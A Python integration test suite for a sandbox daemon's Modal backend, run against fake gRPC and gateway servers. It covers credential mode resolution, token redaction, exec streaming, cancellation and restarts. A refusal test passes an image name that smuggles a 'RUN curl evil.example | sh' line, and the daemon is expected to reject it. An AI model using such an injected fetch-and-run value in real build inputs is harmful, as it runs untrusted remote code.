"""Modal backend through the daemon socket, against the fakes of Modal's gRPC API and of the
managed gateway (tests/fakes/modal/, self-tested in test_modal_fakes.py).

Every daemon here gets a private HOME and empty MODAL_* variables, so nothing of the host's own
Modal configuration is read."""
import base64
import hashlib
import json
import os
import random
import shutil
import stat
import subprocess
import tempfile
import threading
import time
import unittest

from harness import SANDBOXD, Daemon, RpcError, b64, class_resource
from modal_fakes import FakeGateway, FakeModal, Relay

CLEAN = {"MODAL_TOKEN_ID": "", "MODAL_TOKEN_SECRET": "", "MODAL_CONFIG_PATH": "",
         "MODAL_PROFILE": "", "MODAL_SERVER_URL": "", "MODAL_ENVIRONMENT": "",
         "MODAL_GATEWAY_URL": "", "TOOL_GATEWAY_USER_TOKEN": ""}


def modal_entry(c):
    return [b for b in c.call("backend.list")["backends"] if b["name"] == "modal"][0]


class Env:
    """A private HOME (for ~/.modal.toml) and a gateway token file, per test."""

    def __init__(self):
        self.home = tempfile.mkdtemp(prefix="sbxmodal-")
        os.chmod(self.home, 0o700)

    def toml(self, text, name=".modal.toml"):
        path = os.path.join(self.home, name)
        with open(path, "w") as f:
            f.write(text)
        return path

    def token_file(self, token):
        path = os.path.join(self.home, "gw.token")
        with open(path, "w") as f:
            f.write(token + "\n")
        os.chmod(path, 0o600)
        return path

    def env(self, **kw):
        e = dict(CLEAN, HOME=self.home)
        e.update(kw)
        return e

    def close(self):
        shutil.rmtree(self.home, ignore_errors=True)


def direct_env(env, fake, **kw):
    return env.env(MODAL_TOKEN_ID=fake.token_id, MODAL_TOKEN_SECRET=fake.token_secret,
                   MODAL_SERVER_URL=fake.url, **kw)


def gateway_config(env, gw, mode="auto", extra=""):
    return ("[backend.modal]\nmode = %s\ngateway_url = %s\ngateway_token_file = %s\n"
            "network = bridge\n%s" % (mode, gw.url, env.token_file(gw.token), extra))


class ModalModes(unittest.TestCase):
    """Mode resolution end to end: what backend.list says for each combination (the decision
    table itself is tests/unit/check_modal_mode.c)."""

    @classmethod
    def setUpClass(cls):
        cls.fake = class_resource(cls, FakeModal)
        cls.gw = class_resource(cls, FakeGateway)

    def setUp(self):
        self.env = Env()
        self.gw.control(health="ok")

    def tearDown(self):
        self.env.close()

    def listing(self, config=None, **env):
        # Never Modal's real server: start-up looks for orphans with direct credentials.
        d = Daemon(config, env=self.env.env(MODAL_SERVER_URL=self.fake.url, **env))
        try:
            c = d.client()
            e = modal_entry(c)
            c.close()
        finally:
            log = d.stop()
        return e, log

    def profile(self, name, active, tid="ak-file", secret="as-file-secret-1"):
        return ('[%s]\ntoken_id = "%s-%s"\ntoken_secret = "%s"\nactive = %s\n'
                % (name, tid, name, secret, "true" if active else "false"))

    def test_table(self):
        e = self.env
        cases = [
            # (name, config, env, available, selected, credential source / reason substring)
            ("env pair", None, dict(MODAL_TOKEN_ID="ak-1", MODAL_TOKEN_SECRET="as-1-secret"),
             True, "direct", "environment"),
            ("only the id", None, dict(MODAL_TOKEN_ID="ak-1"), False, None,
             "MODAL_TOKEN_SECRET is not"),
            ("only the secret", None, dict(MODAL_TOKEN_SECRET="as-1-secret"), False, None,
             "MODAL_TOKEN_ID is not"),
            ("file, active profile", "toml:" + self.profile("a", False) + self.profile("b", True),
             {}, True, "direct", "/.modal.toml [b]"),
            ("file, no active profile", "toml:" + self.profile("a", False), {}, False, None,
             "no active profile"),
            ("MODAL_PROFILE", "toml:" + self.profile("a", False) + self.profile("b", True),
             dict(MODAL_PROFILE="a"), True, "direct", "[a]"),
            ("MODAL_CONFIG_PATH", "alt:" + self.profile("default", False), {}, True, "direct",
             "alt.toml [default]"),
            ("nothing", None, {}, False, None, "mode auto: managed: not configured"),
        ]
        for name, cfg, env, avail, selected, want in cases:
            with self.subTest(name):
                if cfg and cfg.startswith("toml:"):
                    e.toml(cfg[5:])
                elif cfg and cfg.startswith("alt:"):
                    env = dict(env, MODAL_CONFIG_PATH=e.toml(cfg[4:], "alt.toml"))
                else:
                    path = os.path.join(e.home, ".modal.toml")
                    if os.path.exists(path):
                        os.unlink(path)
                got, log = self.listing(None, **env)
                d = got["details"]
                self.assertEqual(got["available"], avail, got)
                self.assertEqual(d["selected"], selected, got)
                self.assertEqual(d["has_direct_credentials"], avail, got)
                text = d["credential_source"] if avail else got["reason"]
                self.assertIn(want, text, got)
                if not avail:
                    self.assertTrue(got["hint"], got)
                for secret in ("as-1-secret", "as-file-secret-1"):
                    self.assertNotIn(secret, json.dumps(got))
                    self.assertNotIn(secret, log)

    def test_managed_readiness(self):
        direct = dict(MODAL_TOKEN_ID="ak-1", MODAL_TOKEN_SECRET="as-1-secret")
        cases = [
            # (name, health, mode, env, available, selected, managed_ready, error substring)
            ("ready, auto", "ok", "auto", {}, True, "managed", True, None),
            ("ready, auto, direct too", "ok", "auto", direct, True, "managed", True, None),
            ("not ready, auto falls to direct", "error", "auto", direct, True, "direct", False,
             "HTTP 503"),
            ("erroring", "garbage", "auto", {}, False, None, False, "not a JSON object"),
            ("slow", "slow", "auto", {}, False, None, False, "no answer within 300 ms"),
            ("managed only, not ready", "error", "managed", direct, False, None, False,
             "mode managed: the gateway is not ready"),
            ("direct only, gateway ready", "ok", "direct", direct, True, "direct", False, None),
        ]
        for name, health, mode, env, avail, selected, ready, err in cases:
            with self.subTest(name):
                self.gw.control(health=health)
                cfg = gateway_config(self.env, self.gw, mode, "gateway_ready_timeout_ms = 300\n")
                got, log = self.listing(cfg, **env)
                d = got["details"]
                self.assertEqual((got["available"], d["selected"], d["managed_ready"]),
                                 (avail, selected, ready), got)
                self.assertEqual(d["requested_mode"], mode)
                if err:
                    self.assertIn(err, (d["last_readiness_error"] or "") + got.get("reason", ""),
                                  got)
                self.assertNotIn(self.gw.token, json.dumps(got))
                self.assertNotIn(self.gw.token, log)

    def test_requested_mode_only_towards_what_is_enabled(self):
        cfg = gateway_config(self.env, self.gw, "direct")
        d = Daemon(cfg, env=direct_env(self.env, self.fake))
        try:
            c = d.client()
            with self.assertRaises(RpcError) as cm:
                c.call("sandbox.create", {"backend": "modal", "modal": {"mode": "managed"}})
            self.assertEqual(cm.exception.code, -32602)
            self.assertEqual(cm.exception.data["param"], "modal.mode")
            self.assertIn("mode = direct", cm.exception.message)
            for bad in ({"mode": "Managed"}, {"region": "x"}, {"app": "no spaces"}):
                with self.assertRaises(RpcError) as cm:
                    c.call("sandbox.create", {"backend": "modal", "modal": bad})
                self.assertEqual(cm.exception.code, -32602, bad)
            c.close()
        finally:
            d.stop()

    def test_unavailable_create_and_bad_config(self):
        d = Daemon(None, env=self.env.env())
        try:
            c = d.client()
            with self.assertRaises(RpcError) as cm:
                c.call("sandbox.create", {"backend": "modal"})
            self.assertEqual(cm.exception.code, -32000)
            self.assertIn("MODAL_TOKEN_ID", cm.exception.data["reason"])
            self.assertTrue(cm.exception.data["hint"])
            c.close()
        finally:
            d.stop()
        for cfg, want in (("modee = auto\n", "unknown key 'modee'"),
                          ("mode = sometimes\n", "expected auto, direct"),
                          ("gateway_url = http://gw.example.com\n",
                           "plain http to a host that is not localhost"),
                          ("gateway_url = https://u:p@gw.example.com\n", "carries credentials"),
                          ("max_lifetime_s = 10x\n", "whole number")):
            with self.subTest(cfg):
                r = self.start_fails("[backend.modal]\n" + cfg)
                self.assertIn(want, r)
        path = self.env.token_file("tok-1234567890")
        os.chmod(path, 0o644)
        r = self.start_fails("[backend.modal]\ngateway_url = http://127.0.0.1:9\n"
                             "gateway_token_file = %s\n" % path)
        self.assertIn("chmod 600", r)
        self.assertNotIn("tok-1234567890", r)

    def start_fails(self, cfg):
        """A daemon with this configuration must refuse to start; returns what it said."""
        conf = os.path.join(self.env.home, "bad.conf")
        with open(conf, "w") as f:
            f.write(cfg)
        r = subprocess.run([SANDBOXD, "--config", conf, "--socket",
                            os.path.join(self.env.home, "s.sock"), "--state-dir",
                            os.path.join(self.env.home, "state")], capture_output=True,
                           text=True, env=dict(os.environ, **self.env.env()), timeout=30)
        self.assertEqual(r.returncode, 1, r.stderr)
        return r.stderr


class ModalDirect(unittest.TestCase):
    """Direct mode: the full lifecycle against the gRPC fake, the router behind a relay that
    can drop the link."""

    @classmethod
    def setUpClass(cls):
        cls.relay = class_resource(cls, Relay, stop="close")
        cls.fake = class_resource(cls, FakeModal,
                                  router_url="http://127.0.0.1:%d" % cls.relay.port)
        cls.relay.target = cls.fake.router_port
        cls.env = class_resource(cls, Env, stop="close")
        cls.daemon = class_resource(cls, Daemon, "[backend.modal]\nmode = direct\n",
                                    env=direct_env(cls.env, cls.fake))
        cls.c = cls.daemon.client()
        cls.sb = cls.c.call("sandbox.create", {"backend": "modal", "name": "d",
                                               "resources": {"cpus": 0.5, "memory_mb": 256},
                                               "timeout_s": 600}, timeout=60)

    @classmethod
    def tearDownClass(cls):
        cls.c.close()
        cls.log = cls.daemon.stop()  # the class cleanups stop the fakes
        for secret in (cls.fake.token_secret, cls.fake.token_id):
            assert secret not in cls.log, "a token is in the daemon's log"

    def exec(self, **params):
        params.setdefault("sandbox", "d")
        return self.c.call("exec", params, timeout=60)

    def remote(self):
        rid = self.sb["details"]["remote_id"]
        return [s for s in self.fake.state()["sandboxes"] if s["id"] == rid][0]

    def test_create_details_and_tags(self):
        sb = self.sb
        self.assertEqual((sb["backend"], sb["details"]["mode"], sb["host_access"]),
                         ("modal", "direct", False))
        self.assertEqual(sb["enforced"], {"cpus": "modal", "memory_mb": "modal",
                                          "network": "blocked"})
        r = self.remote()
        self.assertEqual(r["tags"]["sandboxd.sandbox"], sb["id"])
        self.assertEqual(r["tags"]["sandboxd"], "1")
        self.assertEqual((r["milli_cpu"], r["memory_mb"], r["network"]), (500, 256, 2))
        self.assertEqual(r["timeout_secs"], 660)  # timeout_s + the backstop's minute

    def test_exec_streams_codes_stdin_and_state(self):
        r = self.exec(command="printf 'a\\n'; printf 'b' >&2; exit 7")
        self.assertEqual((r["stdout"], r["stderr"], r["exit_code"]), ("a\n", "b", 7))
        outs = [n for n in self.c.notifications if n["method"] == "exec.output"
                and n["params"]["exec_id"] == r["exec_id"]]
        self.assertEqual({n["params"]["stream"] for n in outs}, {"stdout", "stderr"})
        r = self.exec(command="wc -c", stdin_base64=b64(bytes(range(256)) * 4))
        self.assertEqual(r["stdout"].strip(), "1024")
        r = self.exec(command="echo x >&2", merge_stderr=True)
        self.assertEqual((r["stdout"], r["stderr"]), ("x\n", ""))
        self.exec(command="mkdir -p sub && cd sub && export KEEP=kept")
        r = self.exec(command="basename $PWD; echo $KEEP")
        self.assertEqual(r["stdout"], "sub\nkept\n")
        r = self.exec(argv=["sh", "-c", "echo $KEEP"])
        self.assertEqual(r["stdout"], "kept\n")
        self.exec(command="cd ..")

    def test_stdin_open_and_process_write(self):
        r = self.exec(command="cat; echo done", background=True, stdin_open=True)
        self.c.call("process.write", {"exec_id": r["exec_id"], "data": "one "})
        self.c.call("process.write", {"exec_id": r["exec_id"], "data": "two\n", "eof": True})
        w = self.c.call("process.wait", {"exec_id": r["exec_id"], "timeout_ms": 30000})
        self.assertEqual(w["exit_code"], 0)
        out = self.c.call("process.read", {"exec_id": r["exec_id"]})
        self.assertEqual(out["data"], "one two\ndone\n")

    def test_timeout_kills_the_command_not_the_sandbox(self):
        # Durations no other process on this machine has, to find ours in ps.
        t1, t2 = "30.%06d" % random.randrange(10**6), "300.%06d" % random.randrange(10**6)
        r = self.exec(command="sleep %s & echo started; wait" % t1, timeout_s=1)
        self.assertTrue(r["timed_out"], r)
        self.assertEqual(r["stdout"], "started\n")
        self.assertTrue(self.remote()["running"], "the sandbox was terminated")
        r = self.exec(command="echo alive")
        self.assertEqual(r["stdout"], "alive\n")
        b = self.exec(command="sleep %s" % t2, background=True)
        k = self.c.call("process.kill", {"exec_id": b["exec_id"], "grace_ms": 200}, timeout=30)
        self.assertEqual((k["killed"], k["survivors"]), (True, 0))
        self.assertTrue(self.remote()["running"])
        # Nothing of either tree is left on the fake's machine.
        ps = self.exec(argv=["sh", "-c", "ps -eo args | grep -c -e '^sleep %s$' -e '^sleep %s$' "
                             "|| true" % (t1, t2)])
        self.assertEqual(ps["stdout"].strip(), "0")

    def test_link_dropped_mid_exec_loses_nothing(self):
        seen = []

        def cut_when_streaming():
            deadline = time.monotonic() + 20
            while time.monotonic() < deadline and self.relay.accepted < 3:
                time.sleep(0.01)
            time.sleep(0.3)
            seen.append(self.relay.cut())
            time.sleep(0.3)
            seen.append(self.relay.cut())

        t = threading.Thread(target=cut_when_streaming)
        t.start()
        r = self.exec(command="for i in $(seq 1 300); do echo line-$i; sleep 0.004; done")
        t.join()
        self.assertGreater(sum(seen), 0, "the relay had no connection to cut")
        self.assertEqual(r["stdout"], "".join("line-%d\n" % i for i in range(1, 301)))
        self.assertEqual(r["exit_code"], 0)
        # and a cut the server reports (UNAVAILABLE mid-stream)
        self.fake.control(cut_stream_after=500)
        r = self.exec(command="seq 1 3000")
        self.assertEqual(r["stdout"], "".join("%d\n" % i for i in range(1, 3001)))
        self.assertGreaterEqual(self.fake.counter("streams_cut"), 1)

    def test_token_expiry_and_refresh(self):
        before = self.fake.state()["counters"]
        self.fake.control(expire_tokens=2, echo_secrets=True)
        r = self.exec(command="echo after-expiry")
        self.assertEqual(r["stdout"], "after-expiry\n")
        after = self.fake.state()["counters"]
        self.assertGreater(after["unauthenticated"], before.get("unauthenticated", 0))
        self.assertGreater(after["calls.TaskGetCommandRouterAccess"],
                           before["calls.TaskGetCommandRouterAccess"])
        self.fake.control(echo_secrets=False)

    def test_tokens_never_leak(self):
        secrets = [self.fake.token_id, self.fake.token_secret]
        r = self.exec(command="env; cat /proc/self/environ | tr '\\0' '\\n'")
        listing = json.dumps(self.c.call("backend.list"))
        for s in secrets:
            self.assertNotIn(s, r["stdout"])
            self.assertNotIn(s, listing)
        self.assertNotIn("x-modal", r["stdout"])
        self.assertNotIn("eyJ", r["stdout"])  # no JWT either
        # A server that echoes credentials in its errors: they are redacted before anyone sees.
        env = Env()
        d = Daemon("[backend.modal]\nmode = direct\n",
                   env=env.env(MODAL_TOKEN_ID=self.fake.token_id, MODAL_TOKEN_SECRET="as-wrong-"
                               "secret-value", MODAL_SERVER_URL=self.fake.url))
        try:
            self.fake.control(echo_secrets=True)
            c = d.client()
            with self.assertRaises(RpcError) as cm:
                c.call("sandbox.create", {"backend": "modal"}, timeout=60)
            msg = json.dumps({"m": cm.exception.message, "d": cm.exception.data})
            self.assertIn("UNAUTHENTICATED", msg)
            self.assertIn("[redacted]", msg)
            self.assertNotIn("as-wrong-secret-value", msg)
            c.close()
        finally:
            self.fake.control(echo_secrets=False)
            log = d.stop()
            env.close()
        self.assertNotIn("as-wrong-secret-value", log)

    def test_files_binary_safe(self):
        data = bytes(range(256)) * 64
        path = self.sb["workdir"] + "/bin/data"
        self.c.call("file.write", {"sandbox": "d", "path": path, "data_base64": b64(data),
                                   "mkdir": True, "mode": 0o600})
        got = self.c.call("file.read", {"sandbox": "d", "path": path, "offset": 100,
                                        "max_bytes": 1000, "output_encoding": "base64"})
        self.assertEqual(base64.b64decode(got["data"]), data[100:1100])
        self.assertEqual((got["size"], got["eof"]), (len(data), False))
        with self.assertRaises(RpcError) as cm:
            self.c.call("file.read", {"sandbox": "d", "path": path + ".missing"})
        self.assertEqual(cm.exception.code, -32602)

    def test_image_build_progress_and_failure(self):
        self.fake.control(image_build_logs=["Step 1/2", "Step 2/2"])
        c = self.daemon.client()
        try:
            sb = c.call("sandbox.create", {"backend": "modal", "image": "python:3.12"}, timeout=60)
            msgs = [n["params"]["message"] for n in c.notifications
                    if n["method"] == "sandbox.progress"]
            self.assertIn("Step 2/2", msgs)
            self.assertIn("FROM python:3.12", msgs)
            c.call("sandbox.destroy", {"id": sb["id"]}, timeout=60)
            self.fake.control(image_build_logs=[], image_build_error="no such image: nope")
            with self.assertRaises(RpcError) as cm:
                c.call("sandbox.create", {"backend": "modal", "image": "nope"}, timeout=60)
            self.assertEqual(cm.exception.code, -32005)
            self.assertIn("no such image: nope", cm.exception.message)
        finally:
            self.fake.control(image_build_logs=[], image_build_error="")
            c.close()

    def test_refusals(self):
        with self.assertRaises(RpcError) as cm:
            self.c.call("sandbox.create", {"backend": "modal",
                                           "mounts": [{"type": "tmpfs", "target": "/x"}]})
        self.assertEqual((cm.exception.code, cm.exception.data["param"]), (-32602, "mounts"))
        self.assertIn("nothing of this host can be mounted", cm.exception.message)
        with self.assertRaises(RpcError) as cm:
            self.c.call("sandbox.create", {"backend": "modal",
                                           "image": "debian\nRUN curl evil.example | sh"})
        self.assertEqual((cm.exception.code, cm.exception.data["param"]), (-32602, "image"))
        before = len(self.fake.state()["sandboxes"])
        with self.assertRaises(RpcError) as cm:
            self.c.call("sandbox.create", {"backend": "modal", "network": "host"})
        self.assertIn(cm.exception.code, (-32001, -32602))  # the policy, or the backend
        self.assertEqual(len(self.fake.state()["sandboxes"]), before)

    def test_zz_destroy_terminates(self):
        sb = self.c.call("sandbox.create", {"backend": "modal"}, timeout=60)
        rid = sb["details"]["remote_id"]
        self.c.call("sandbox.destroy", {"id": sb["id"]}, timeout=60)
        st = [s for s in self.fake.state()["sandboxes"] if s["id"] == rid][0]
        self.assertFalse(st["running"])


class ModalCancel(unittest.TestCase):
    """A create abandoned mid-way (its client gone, or SIGTERM) leaves nothing on the provider:
    each fake answers the create late (create_delay_s) after its sandbox exists, so the
    daemon must find and terminate what it has not been told about yet."""

    def setUp(self):
        self.fake = FakeModal()
        self.gw = FakeGateway()
        self.env = Env()
        self.d = Daemon(gateway_config(self.env, self.gw), env=direct_env(self.env, self.fake))

    def tearDown(self):
        if self.d.proc.poll() is None:
            self.d.stop()
        self.fake.stop()
        self.gw.stop()
        self.env.close()

    def live(self, mode):
        if mode == "direct":
            return [s["id"] for s in self.fake.state()["sandboxes"] if s["running"]]
        return [s["id"] for s in self.gw.state()["sandboxes"] if s["status"] == "running"]

    def until(self, cond, what):
        deadline = time.monotonic() + 60
        while not cond():
            if time.monotonic() > deadline:
                raise AssertionError("never: %s; log:\n%s" % (what, self.d.read_log()))
            time.sleep(0.05)

    def start_create(self, mode, delay_s):
        (self.fake if mode == "direct" else self.gw).control(create_delay_s=delay_s)
        c = self.d.client()
        c.send({"jsonrpc": "2.0", "id": 1, "method": "sandbox.create",
                "params": {"backend": "modal", "name": "slow", "modal": {"mode": mode}}})
        self.until(lambda: self.live(mode), "the provider has the sandbox")
        return c

    def check_disconnect(self, mode, delay_s):
        c = self.start_create(mode, delay_s)
        c.close()
        self.until(lambda: not self.live(mode), "the abandoned sandbox is terminated")
        self.until(lambda: "cancelling" in self.d.read_log(), "the daemon says why")
        probe = self.d.client()
        # The create ends once the terminate is answered (the fake shows it a moment before).
        self.until(lambda: probe.call("sandbox.list")["sandboxes"] == [], "the create ends")
        probe.close()
        self.d.stop()
        self.assertEqual(self.live(mode), [])

    def check_sigterm(self, mode, delay_s):
        c = self.start_create(mode, delay_s)
        log = self.d.stop()
        c.close()
        # The daemon has exited: what it made is gone already, not only "later".
        self.assertEqual(self.live(mode), [], log)
        self.assertIn("cancelling its creation (shutting down)", log)

    def test_client_gone_during_a_direct_create(self):
        self.check_disconnect("direct", 2)

    def test_client_gone_during_a_managed_create(self):
        # The gateway's answer would come after the test's whole budget: the daemon abandons
        # the call and finds the sandbox by the create's idempotency key.
        self.check_disconnect("managed", 600)

    def test_sigterm_during_a_direct_create(self):
        self.check_sigterm("direct", 2)

    def test_sigterm_during_a_managed_create(self):
        self.check_sigterm("managed", 600)


class ModalRestart(unittest.TestCase):
    """Records: a restart re-adopts direct and managed sandboxes; orphans (tagged with this
    daemon's instance, no record) are terminated at start."""

    def setUp(self):
        self.fake = FakeModal()
        self.gw = FakeGateway()
        self.env = Env()
        self.state = tempfile.mkdtemp(prefix="sbxstate-")

    def tearDown(self):
        self.fake.stop()
        self.gw.stop()
        self.env.close()
        shutil.rmtree(self.state, ignore_errors=True)

    def start(self):
        return Daemon(gateway_config(self.env, self.gw), state_dir=self.state,
                      env=direct_env(self.env, self.fake))

    def test_restart(self):
        d = self.start()
        try:
            c = d.client()
            keep = c.call("sandbox.create", {"backend": "modal", "name": "keep",
                                             "modal": {"mode": "direct"}}, timeout=60)
            orphan = c.call("sandbox.create", {"backend": "modal", "name": "orphan",
                                               "modal": {"mode": "direct"}}, timeout=60)
            man = c.call("sandbox.create", {"backend": "modal", "name": "man"}, timeout=60)
            self.assertEqual(man["details"]["mode"], "managed")
            c.call("file.write", {"sandbox": "keep", "path": keep["workdir"] + "/k",
                                  "data": "v\n"})
            c.close()
        finally:
            log = d.stop()
        self.assertEqual(log.count("kept for re-adoption"), 3, log)
        path = os.path.join(self.state, "sandboxes.json")
        with open(path) as f:
            doc = json.load(f)
        doc["sandboxes"] = [s for s in doc["sandboxes"] if s["name"] != "orphan"]
        with open(path, "w") as f:
            json.dump(doc, f)
        d = self.start()
        try:
            c = d.client()
            names = sorted(s["name"] for s in c.call("sandbox.list")["sandboxes"])
            self.assertEqual(names, ["keep", "man"])
            r = c.call("exec", {"sandbox": "keep", "command": "cat k"}, timeout=60)
            self.assertEqual(r["stdout"], "v\n")
            r = c.call("exec", {"sandbox": "man", "command": "echo managed"}, timeout=60)
            self.assertEqual(r["stdout"], "managed\n")
            running = {s["id"]: s["running"] for s in self.fake.state()["sandboxes"]}
            self.assertFalse(running[orphan["details"]["remote_id"]], "the orphan lives on")
            self.assertTrue(running[keep["details"]["remote_id"]])
            c.close()
        finally:
            log = d.stop()
        self.assertIn("modal: removed 1 orphan sandbox of this daemon", log)
        self.assertEqual(log.count("re-adopted"), 2, log)

    def test_direct_exec_outlives_a_restart(self):
        """A direct-mode exec runs on while the daemon restarts; the next daemon takes it back
        from where its output stopped (nothing lost or repeated) and reports its real exit.
        It waits for a gate (a file on this machine, where the fake runs commands) opened
        only while no daemon runs."""
        gate = os.path.join(self.state, "gate")
        d = self.start()
        try:
            c = d.client()
            c.call("sandbox.create", {"backend": "modal", "name": "x",
                                      "modal": {"mode": "direct"}}, timeout=60)
            eid = c.call("exec", {"sandbox": "x", "background": True, "command":
                                  "echo before; echo err1 >&2; until [ -e %s ]; do sleep 0.05;"
                                  " done; echo after; echo err2 >&2; exit 4" % gate})["exec_id"]
            deadline = time.monotonic() + 60
            while c.call("process.read", {"exec_id": eid})["data"] != "before\n":
                self.assertLess(time.monotonic(), deadline, "no output before the restart")
                time.sleep(0.05)
            c.close()
        finally:
            log = d.stop()
        with open(gate, "w"):
            pass
        d = self.start()
        try:
            c = d.client()
            w = c.call("process.wait", {"exec_id": eid, "timeout_ms": 60000}, timeout=90)
            self.assertEqual((w["state"], w["exit_code"]), ("exited", 4), w)
            out = c.call("process.read", {"exec_id": eid})
            err = c.call("process.read", {"exec_id": eid, "stream": "stderr"})
            self.assertEqual((out["data"], err["data"]), ("before\nafter\n", "err1\nerr2\n"))
            c.close()
        finally:
            log = d.stop()
        self.assertIn("taken back", log)


class ModalManaged(unittest.TestCase):
    """Managed mode: the full lifecycle against the gateway fake."""

    @classmethod
    def setUpClass(cls):
        cls.gw = class_resource(cls, FakeGateway)
        cls.env = class_resource(cls, Env, stop="close")
        cls.daemon = class_resource(cls, Daemon, gateway_config(cls.env, cls.gw, "managed",
                                                                "gateway_poll_ms = 50\n"),
                                    env=cls.env.env())
        cls.c = cls.daemon.client()
        cls.sb = cls.c.call("sandbox.create", {"backend": "modal", "name": "m"}, timeout=60)

    @classmethod
    def tearDownClass(cls):
        cls.c.close()
        log = cls.daemon.stop()  # the class cleanups stop the fake
        assert cls.gw.token not in log

    def exec(self, **params):
        params.setdefault("sandbox", "m")
        return self.c.call("exec", params, timeout=60)

    def remote(self):
        rid = self.sb["details"]["remote_id"]
        return [s for s in self.gw.state()["sandboxes"] if s["id"] == rid][0]

    def test_create(self):
        self.assertEqual(self.sb["details"]["mode"], "managed")
        create = self.remote()["create"]
        self.assertEqual(create["logicalKey"], self.sb["id"])
        self.assertEqual(create["image"], "debian:bookworm-slim")

    def test_exec_stdin_state_and_output(self):
        r = self.exec(command="echo out; echo err >&2; exit 5")
        self.assertEqual((r["stdout"], r["exit_code"]), ("out\nerr\n", 5))
        r = self.exec(command="wc -c", stdin_base64=b64(bytes(range(256))))
        self.assertEqual(r["stdout"].strip(), "256")
        self.exec(command="cd /tmp && export M=1")
        r = self.exec(command="pwd; echo $M")
        self.assertEqual(r["stdout"], "/tmp\n1\n")
        r = self.exec(command="env")
        self.assertNotIn(self.gw.token, r["stdout"])
        with self.assertRaises(RpcError) as cm:
            self.exec(command="cat", stdin_open=True, background=True)
        self.assertIn("managed mode", cm.exception.message)

    def test_lost_polls_lose_nothing(self):
        self.gw.control(poll_errors=3, drop_polls=3)
        r = self.exec(command="for i in $(seq 1 50); do echo p-$i; sleep 0.01; done")
        self.assertEqual(r["stdout"], "".join("p-%d\n" % i for i in range(1, 51)))

    def test_timeout_cancels_the_exec_not_the_sandbox(self):
        r = self.exec(command="sleep 30", timeout_s=1)
        self.assertTrue(r["timed_out"], r)
        self.assertGreaterEqual(self.gw.counter("cancels"), 1)
        self.assertEqual(self.remote()["status"], "running")
        self.assertEqual(self.exec(command="echo alive")["stdout"], "alive\n")

    def test_files_and_refusals(self):
        data = bytes(range(256)) * 8
        path = self.sb["workdir"] + "/f"
        self.c.call("file.write", {"sandbox": "m", "path": path, "data_base64": b64(data)})
        got = self.c.call("file.read", {"sandbox": "m", "path": path,
                                        "output_encoding": "base64"})
        self.assertEqual(base64.b64decode(got["data"]), data)
        with self.assertRaises(RpcError) as cm:
            self.c.call("sandbox.create", {"backend": "modal", "network": "none"})
        self.assertEqual(cm.exception.data["param"], "network")
        self.assertIn("bridge", cm.exception.message)

    def test_wrong_token_is_redacted(self):
        env = Env()
        path = env.token_file("gw-wrong-token-0123456789")
        cfg = ("[backend.modal]\nmode = managed\ngateway_url = %s\ngateway_token_file = %s\n"
               % (self.gw.url, path))
        self.gw.control(echo_secrets=True)
        try:
            d = Daemon(cfg, env=env.env())
            c = d.client()
            e = modal_entry(c)
            c.close()
            log = d.stop()
        finally:
            self.gw.control(echo_secrets=False)
            env.close()
        self.assertFalse(e["available"])
        self.assertIn("HTTP 401", e["details"]["last_readiness_error"])
        self.assertNotIn("gw-wrong-token-0123456789", json.dumps(e))
        self.assertNotIn("gw-wrong-token-0123456789", log)

    def test_zz_destroy_terminates(self):
        sb = self.c.call("sandbox.create", {"backend": "modal"}, timeout=60)
        self.c.call("sandbox.destroy", {"id": sb["id"]}, timeout=60)
        st = [s for s in self.gw.state()["sandboxes"] if s["id"] == sb["details"]["remote_id"]]
        self.assertEqual(st[0]["status"], "terminated")


class ModalDocs(unittest.TestCase):
    """Every key of [backend.modal] (modal_keys[] in backends/modal/modal.c) is documented in
    docs/configuration.md, sandboxd.conf(5) and docs/backends/modal.md."""

    TOP = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
    DAEMON_KEYS = {"recreate", "ask_isolated", "drain_grace_ms", "file_timeout_ms",
                   "config_file", "state_dir",
                   "daemon_socket"}  # every backend's, documented so

    def keys(self):
        import re
        with open(os.path.join(self.TOP, "backends", "modal", "modal.c")) as f:
            src = f.read()
        table = src[src.index("modal_keys[] = {"):]
        return re.findall(r'MK[SU]\("(\w+)"', table[:table.index("};")])

    def test_keys_documented(self):
        keys = self.keys()
        self.assertGreater(len(keys), 10)
        docs = {}
        for rel in ("docs/configuration.md", "docs/backends/modal.md", "docs/man/sandboxd.conf.5"):
            with open(os.path.join(self.TOP, rel)) as f:
                docs[rel] = f.read()
        for k in keys:
            if k in self.DAEMON_KEYS:
                continue
            self.assertIn("`%s`" % k, docs["docs/configuration.md"], k)
            self.assertIn("`%s`" % k, docs["docs/backends/modal.md"], k)
            self.assertIn(".BR %s " % k, docs["docs/man/sandboxd.conf.5"], k)
